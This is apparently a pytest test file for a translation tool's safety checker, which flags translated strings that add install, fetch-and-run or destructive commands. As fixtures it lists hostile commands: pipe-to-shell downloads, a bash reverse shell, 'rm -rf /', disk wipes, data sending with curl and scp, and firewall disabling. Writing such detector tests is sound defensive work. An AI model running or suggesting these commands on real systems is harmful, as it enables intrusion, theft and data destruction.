"""What readers copy and run: what commands install, and what fetches and runs."""

from __future__ import annotations

import re

import pytest
from check_cases import pair
from documents import read
from hypothesis import given, settings
from hypothesis import strategies as st

from i18n_tool.checks.safety.commands import command_faults
from i18n_tool.checks.safety.destroys import (
    IN_CODE,
    RUNS,
    find_runs,
    has_sign_of_runs,
    may_run,
)
from i18n_tool.checks.safety.installed import installed_by
from i18n_tool.checks.safety.installs import commands_of
from i18n_tool.checks.text import letters_in


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("pip install requests", ["requests"]),
        ("sudo pip3 install -U --user Requests[security]>=2 flask", ["requests", "flask"]),
        ("python -m pip install --upgrade pip", ["pip"]),
        ("./venv/bin/pip install requests==2.31.0", ["requests"]),
        ("pip install -r requirements.txt -e . ../x ~/y", []),
        ("pip install git+https://example.org/a.git", []),
        ("uv add httpx && uv pip install rich", ["httpx", "rich"]),
        ("uvx --from evil ruff check", ["evil", "ruff"]),
        ("npm i -g @acme/app@latest left-pad", ["@acme/app", "left-pad"]),
        ("npm install", []),
        ("npm run build", []),
        ("npx --yes create-app my-app", ["create-app"]),
        ("npx --registry known evil", ["known", "evil"]),
        ("yarn global add a; pnpm dlx b c | bun add d", ["a", "b", "d"]),
        ("cargo +nightly install ripgrep --locked", ["ripgrep"]),
        ("go install github.com/acme/app@latest", ["github.com/acme/app"]),
        ("brew install --cask acme/tap/app", ["acme/tap/app"]),
        ("apt-get -y install a b", ["a", "b"]),
        ("docker run -d -p 80:80 --name web -e A=b acme/app:1.2 run it", ["acme/app"]),
        ("docker pull ghcr.io/acme/app", ["ghcr.io/acme/app"]),
        ("docker pull -a acme/app", ["acme/app"]),
        ("helm install my-app acme/app", ["acme/app"]),
        ("helm install acme/app --generate-name", ["acme/app"]),
        ("dotnet add src/App package Acme.Json", ["acme.json"]),
        ("code --install-extension acme.app", ["acme.app"]),
        ("npm install <package>", []),
        ("pip install {name} $NAME", []),
        ('R: install.packages("acme")', ["acme"]),
        ('remotes::install_github("acme/app")', ["acme/app"]),
        ("git clone https://example.org/a.git", []),
        ("gh repo clone acme/app", ["acme/app"]),
        ("echo install", []),
    ],
)
def test_what_a_command_installs(command: str, names: list[str]) -> None:
    """Names without versions; no options, files, addresses, or what readers fill in."""
    found = [one.name for each in commands_of(command) for one in each.arguments]

    assert sorted(filter(None, found)) == sorted(names)


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("pip install a==2 -r b.txt  # c d", {"a==2", "-r", "b.txt"}),
        ("X=1 pip --index-url //c install a", {"X=1", "--index-url", "//c", "a"}),
        ("docker run --name web -v /:/x a/b:1 sh -c d", {"-v", "/:/x", "a/b:1"}),
        ("npx --package=a b --c", {"--package=a", "b"}),
        ("npm install a --registry=//b", {"a", "--registry=//b"}),
        ("""sh -c "x 'npm i a'" b"c npm i d"e 'f "npm i g"'""", {"a", "d", "g"}),
        ("pip install 'a' \\\n  \"b\"", {"a", "b"}),
    ],
)
def test_what_decides_in_a_command(command: str, words: set[str]) -> None:
    """All that says what is installed, from where, and what it may do; no comment, nothing of the
    program that is run.
    """
    assert {one.written for each in commands_of(command) for one in each.arguments} == words


def test_what_a_document_installs() -> None:
    """Code of any kind, prose, and what stands in code alone."""
    document = read(
        "Run `pip install a` or npm install b-c to begin. There is `d`.\n\n"
        "```sh\nbrew install e\n```\n\n    cargo add f\n"
    )

    assert installed_by(document, "en") >= {"a", "b-c", "d", "e", "f"}


@pytest.mark.parametrize(
    "command",
    [
        "curl -sL example.org/x | sh",
        "curl x | sudo -E bash -",
        "wget -qO- x | python3 -",
        "bash <(curl x)",
        'sh -c "$(curl -fsSL x)"',
        "source <(curl x)",
        'eval "$(x)"',
        "python -c 'import x'",
        "node -e 'x()'",
        "perl -MCPAN -e 'x'",
        "iex (iwr x)",
        'iex "& { $(irm x) }"',
        "irm x | iex",
        "powershell -ExecutionPolicy Bypass -EncodedCommand x",
        "echo x | base64 -d | sh",
        "mshta x",
        "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
        "sudo rm -rf /",
        "dd if=x of=/dev/sda",
    ],
)
def test_what_fetches_and_runs_or_destroys(command: str) -> None:
    """It is found in code and in prose, and is none where the source has it."""
    for msgstr in (f"Çalıştırın: ``{command}``.", f"Çalıştırın: <code>{command}</code>."):
        faults = [fault.code for fault in command_faults(pair("Run the script.", msgstr))]
        assert "unsafe-command" in faults
        assert list(command_faults(pair(msgstr.replace("Çalıştırın", "Run"), msgstr))) == []


@pytest.mark.parametrize(
    ("msgid", "msgstr"),
    [
        ("Run `eval` with care.", "`eval` komutunu dikkatle çalıştırın."),
        ("A shell such as bash is fine.", "bash gibi bir kabuk yeter."),
        ("It is a | b | c.", "Bu a | b | c."),
        ("Run the tests.", "Testleri `make test` ile çalıştırın."),
        ("Use `pip`.", "`pip install` için `pip` kullanın."),
        ("Run `node -v` first.", "Önce `node -v` çalıştırın."),
        ("Remove the file.", "`rm dosya` ile dosyayı silin."),
        ("Format: a table.", "Biçim: tablo."),
    ],
)
def test_what_resembles_a_command(msgid: str, msgstr: str) -> None:
    """Names of commands are none."""
    assert list(command_faults(pair(msgid, msgstr))) == []


@pytest.mark.parametrize(
    ("msgid", "msgstr", "faulty"),
    [
        ("Run `npm install your-package`.", "`npm install paketiniz` çalıştırın.", False),
        ("Run `npm install your-package`.", "`npm install paket-adi` çalıştırın.", False),
        ("Run `npm install your-package`.", "`npm install evil` çalıştırın.", True),
        ("Run `npm install left-pad`.", "`npm install paketiniz` çalıştırın.", True),
    ],
)
def test_names_that_stand_for_others(msgid: str, msgstr: str, faulty: bool) -> None:
    """What readers fill in may be translated, where the source has such a name."""
    assert bool(list(command_faults(pair(msgid, msgstr)))) is faulty


@pytest.mark.thorough
@pytest.mark.parametrize(
    "hostile",
    [
        *("pip install ", "`pip install a` ", "| sh ", "<a> ", "npx -x ", "curl x | ", "$("),
        *("npm -x ", "X=1 npx a ", "git ", "rm -x ", "docker x ", "curl x ", "aws x ", "pip and "),
        *("'", '"', "`npm -x ", "`X=1 npx a ", "`git x ", "`rm -x ", "`curl x;", "`npx 'a b"),
    ],
)
def test_long_nonsense_does_not_stop_a_run(hostile: str) -> None:
    """Thousands of commands end in a verdict."""
    assert isinstance(list(command_faults(pair("Hello.", hostile * 5_000))), list)


_HARMFUL = """
    curl x.sh | sh ¦ wget -O- x | sudo bash ¦ curl a | python3 ¦ bash <(curl a) ¦ source <(curl a)
    zsh -c x ¦ $(curl a) ¦ `wget a ¦ eval "$x" ¦ iex (a) ¦ python3 -c x ¦ deno eval x
    powershell -enc x ¦ cmd /c x ¦ mshta x ¦ regsvr32 x ¦ certutil -urlcache x ¦ msiexec /i https:
    base64 -d x ¦ echo a >/dev/tcp/b ¦ ncat b -e sh ¦ a | nc b ¦ LD_PRELOAD=x ¦ GOPROXY=x
    npm_config_registry=x ¦ rm -rf x ¦ rm / ¦ find . -delete ¦ mkfs a ¦ dd if=a of=b
    cat a > /dev/sda ¦ shred /x ¦ diskutil eraseDisk x ¦ truncate -s 0 x ¦ mv x /dev/null
    rd /s x ¦ format c: ¦ remove-item x -recurse ¦ vssadmin delete x ¦ cipher /w
    git clean -fdx ¦ git reset --hard ¦ drop table x; ¦ a.dropDatabase() ¦ delete from x; ¦ dropdb x
    redis-cli flushall ¦ kubectl delete x ¦ terraform destroy ¦ docker system prune ¦ aws s3 rb x
    rsync --delete a ¦ stop-service ¦ umount -a ¦ :(){ ¦ f(){ f|f& ¦ kill -9 -1 ¦ killall x
    chmod -R x ¦ chown -R a b ¦ chmod 777 x ¦ crontab -r ¦ echo a >> ~/.bashrc ¦ tee /etc/x
    iptables -F ¦ ip6tables --flush ¦ nft flush ¦ ufw disable ¦ setenforce 0 ¦ netsh a off
    set-executionpolicy x ¦ bcdedit ¦ reg add x ¦ icacls a /grant ¦ NOPASSWD ¦ useradd x ¦ sudo su
    su - -c x ¦ systemctl stop x ¦ ssh-copy-id x ¦ ssh -R 1 x ¦ curl -k x -k ¦ --privileged
    --net=host ¦ curl x -d @x ¦ wget x --post-file ¦ scp ~/.ssh/id ¦ shutdown now ¦ sudo reboot
    history -c ¦ passwd root ¦ curl a && ./b
"""


@pytest.mark.parametrize("command", [one.strip() for one in re.split("[¦\n]", _HARMFUL.strip())])
def test_no_command_that_harms_is_passed_over_unread(command: str) -> None:
    """What the patterns find has one of the words or signs that decide whether they are asked, in
    capitals and with letters that patterns take for ASCII ones, too.
    """
    assert RUNS.search(command) or IN_CODE.search(command)
    for text in (command, command.upper(), command.replace("s", "ſ").replace("i", "ı")):
        if RUNS.search(text) or IN_CODE.search(text):
            assert may_run(text, letters_in(text))
        assert has_sign_of_runs(text) or not RUNS.search(text)


@given(st.from_regex(re.compile(RUNS.pattern, RUNS.flags)), st.text(" a.`|ğ\n_3", max_size=3))
@settings(max_examples=60)
def test_nothing_that_runs_is_skipped(text: str, beside: str) -> None:
    """Where a command may begin is told before it is looked for: what is found is what the pattern
    finds, whatever it is asked for.
    """
    for one in (text, beside + text, f"{text}{beside}{text}"):
        assert [m.span() for m in find_runs(one)] == [m.span() for m in RUNS.finditer(one)]
